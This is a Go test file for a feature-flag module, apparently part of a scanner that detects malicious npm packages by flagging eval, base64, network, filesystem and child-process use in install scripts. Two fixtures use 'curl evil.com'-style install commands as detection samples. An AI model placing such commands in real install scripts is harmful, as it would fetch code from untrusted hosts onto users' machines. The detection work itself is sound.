package features

import (
	"encoding/json"
	"sync"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

func TestFlagPairs(t *testing.T) {
	tests := []struct {
		general Flag
		variant Flag
	}{
		{UseBase64Conversion, UseBase64ConversionInInstallScript},
		{ContainBase64StringInJSFile, ContainBase64StringInInstallScript},
		{ContainDomainInJSFile, ContainDomainInInstallScript},
		{RequireChildProcessInJSFile, RequireChildProcessInInstallScript},
		{AccessFSInJSFile, AccessFSInInstallScript},
		{AccessNetworkInJSFile, AccessNetworkInInstallScript},
		{AccessProcessEnvInJSFile, AccessProcessEnvInInstallScript},
	}
	for _, tt := range tests {
		t.Run(tt.general.Key(), func(t *testing.T) {
			v, ok := tt.general.InstallVariant()
			require.True(t, ok)
			assert.Equal(t, tt.variant, v)

			g, ok := tt.variant.General()
			require.True(t, ok)
			assert.Equal(t, tt.general, g)
		})
	}

	_, ok := UseEval.InstallVariant()
	assert.False(t, ok)
	_, ok = ContainIP.General()
	assert.False(t, ok)
}

func TestParseFlag(t *testing.T) {
	f, err := ParseFlag("containSuspicousString")
	require.NoError(t, err)
	assert.Equal(t, ContainSuspiciousString, f)

	f, err = ParseFlag("hasInstallScripts")
	require.NoError(t, err)
	assert.Equal(t, HasInstallScripts, f)

	_, err = ParseFlag("nope")
	assert.Error(t, err)
}

func TestRecordSetImpliesGeneral(t *testing.T) {
	var r Record
	r.Set(AccessFSInInstallScript)
	assert.True(t, r.Has(AccessFSInInstallScript))
	assert.True(t, r.Has(AccessFSInJSFile))
	assert.False(t, r.Has(AccessNetworkInJSFile))
	assert.Equal(t, []Flag{AccessFSInJSFile, AccessFSInInstallScript}, r.Raised())
}

func TestRecordRows(t *testing.T) {
	var r Record
	r.Set(UseEval)
	rows := r.Rows()
	require.Len(t, rows, len(CSVFlags()))
	assert.Equal(t, [2]string{"hasInstallScript", "false"}, rows[0])
	assert.Equal(t, [2]string{"accessSensitiveAPI", "false"}, rows[len(rows)-1])

	found := false
	for _, row := range rows {
		if row[0] == "useEval" {
			found = true
			assert.Equal(t, "true", row[1])
		}
		assert.NotEqual(t, "containSuspiciousString", row[0])
	}
	assert.True(t, found)
}

func TestRecordID(t *testing.T) {
	r := Record{PackageName: "left-pad", Version: "1.3.0"}
	assert.Equal(t, "left-pad@1.3.0", r.ID())
}

func TestRecordJSON(t *testing.T) {
	r := Record{PackageName: "pkg", Version: "0.0.1", InstallCommands: []string{"node x.js"}}
	r.Set(ContainIP)

	data, err := json.Marshal(r)
	require.NoError(t, err)

	var doc map[string]interface{}
	require.NoError(t, json.Unmarshal(data, &doc))
	flags := doc["flags"].(map[string]interface{})
	assert.Len(t, flags, len(AllFlags()))
	assert.Equal(t, true, flags["containIP"])
	assert.Equal(t, []interface{}{}, doc["executeJSFiles"])

	var back Record
	require.NoError(t, json.Unmarshal(data, &back))
	assert.True(t, back.Has(ContainIP))
	assert.Equal(t, "pkg", back.PackageName)
}

func TestAverageSyntaxNodes(t *testing.T) {
	assert.Equal(t, 0.0, Stats{}.AverageSyntaxNodes())
	assert.Equal(t, 2.5, Stats{FilesAnalyzed: 2, SyntaxNodes: 5}.AverageSyntaxNodes())
}

func TestPositionRecorderCap(t *testing.T) {
	pr := NewPositionRecorder(3)
	for i := 0; i < 5; i++ {
		pr.Add(UseEval, Position{FilePath: "a.js", Range: &Range{Start: Point{Line: i + 1}}})
	}
	got := pr.Get(UseEval)
	require.Len(t, got, 3)
	assert.Equal(t, 1, got[0].Range.Start.Line)
	assert.Equal(t, 3, got[2].Range.Start.Line)
	assert.False(t, pr.Add(UseEval, Position{}))
	assert.True(t, pr.Add(UseBuffer, Position{}))
	assert.Equal(t, 4, pr.Len())
}

func TestPositionJSON(t *testing.T) {
	pr := NewPositionRecorder(0)
	pr.Add(ContainBytestring, Position{FilePath: "/p/a.js", Literal: `\x41\x42\x43\x44`})
	pr.Add(UseEval, Position{FilePath: "/p/b.js", Range: &Range{
		Start: Point{Line: 1, Column: 0},
		End:   Point{Line: 1, Column: 4},
	}})

	data, err := json.Marshal(pr)
	require.NoError(t, err)

	var doc map[string][]map[string]interface{}
	require.NoError(t, json.Unmarshal(data, &doc))
	assert.Len(t, doc, len(AllFlags()))
	assert.Empty(t, doc["containIP"])
	assert.Equal(t, `\x41\x42\x43\x44`, doc["containBytestring"][0]["content"])
	content := doc["useEval"][0]["content"].(map[string]interface{})
	assert.Equal(t, float64(4), content["end"].(map[string]interface{})["column"])

	back := NewPositionRecorder(0)
	require.NoError(t, json.Unmarshal(data, back))
	assert.Equal(t, pr.Get(UseEval), back.Get(UseEval))
	assert.Equal(t, pr.Get(ContainBytestring), back.Get(ContainBytestring))
}

func TestRewritePaths(t *testing.T) {
	pr := NewPositionRecorder(0)
	pr.Add(UseEval, Position{FilePath: "/tmp/x123/index.js"})
	pr.Add(UseEval, Position{FilePath: "/elsewhere/a.js"})
	pr.RewritePaths("/tmp/x123", "pkg.tgz")
	got := pr.Get(UseEval)
	assert.Equal(t, "pkg.tgz/index.js", got[0].FilePath)
	assert.Equal(t, "/elsewhere/a.js", got[1].FilePath)
}

func TestAggregatorRaise(t *testing.T) {
	a := NewAggregator(10)
	pos := Position{FilePath: "setup.js", Range: &Range{}}

	a.Raise(RequireChildProcessInJSFile, true, pos)
	a.Raise(UseEval, true, pos)
	a.Raise(AccessFSInJSFile, false, pos)

	rec, positions := a.Finalize()
	assert.True(t, rec.Has(RequireChildProcessInJSFile))
	assert.True(t, rec.Has(RequireChildProcessInInstallScript))
	assert.True(t, rec.Has(UseEval))
	assert.True(t, rec.Has(AccessFSInJSFile))
	assert.False(t, rec.Has(AccessFSInInstallScript))
	assert.Len(t, positions.Get(RequireChildProcessInInstallScript), 1)
	assert.Empty(t, positions.Get(AccessFSInInstallScript))
}

func TestAggregatorRaiseVariant(t *testing.T) {
	a := NewAggregator(10)
	a.Raise(ContainDomainInInstallScript, false, Position{FilePath: "package.json", Literal: "curl evil.com"})

	rec, positions := a.Finalize()
	assert.True(t, rec.Has(ContainDomainInInstallScript))
	assert.True(t, rec.Has(ContainDomainInJSFile))
	assert.Len(t, positions.Get(ContainDomainInJSFile), 1)
	assert.Len(t, positions.Get(ContainDomainInInstallScript), 1)
}

func TestAggregatorFrozen(t *testing.T) {
	a := NewAggregator(10)
	a.Update(func(r *Record) { r.PackageName = "pkg" })
	rec, _ := a.Finalize()

	a.Raise(UseEval, false, Position{})
	a.Update(func(r *Record) { r.PackageName = "changed" })
	after, positions := a.Finalize()

	assert.Equal(t, "pkg", rec.PackageName)
	assert.Equal(t, "pkg", after.PackageName)
	assert.False(t, after.Has(UseEval))
	assert.Zero(t, positions.Len())
}

func TestAggregatorConcurrent(t *testing.T) {
	a := NewAggregator(50)
	var wg sync.WaitGroup
	for i := 0; i < 20; i++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for j := 0; j < 10; j++ {
				a.Raise(UseBuffer, false, Position{FilePath: "x.js"})
				a.AddStats(Stats{FilesVisited: 1})
			}
		}()
	}
	wg.Wait()
	rec, positions := a.Finalize()
	assert.True(t, rec.Has(UseBuffer))
	assert.Equal(t, 200, rec.Stats.FilesVisited)
	assert.Len(t, positions.Get(UseBuffer), 50)
}

func TestRaiseVariantRecordsGeneralPosition(t *testing.T) {
	a := NewAggregator(0)
	pos := Position{FilePath: "/pkg/package.json", Literal: "curl https://evil.com/x"}
	a.Raise(ContainDomainInInstallScript, false, pos)

	rec, positions := a.Finalize()
	assert.True(t, rec.Has(ContainDomainInInstallScript))
	assert.True(t, rec.Has(ContainDomainInJSFile))
	assert.Equal(t, []Position{pos}, positions.Get(ContainDomainInInstallScript))
	assert.Equal(t, []Position{pos}, positions.Get(ContainDomainInJSFile))
}
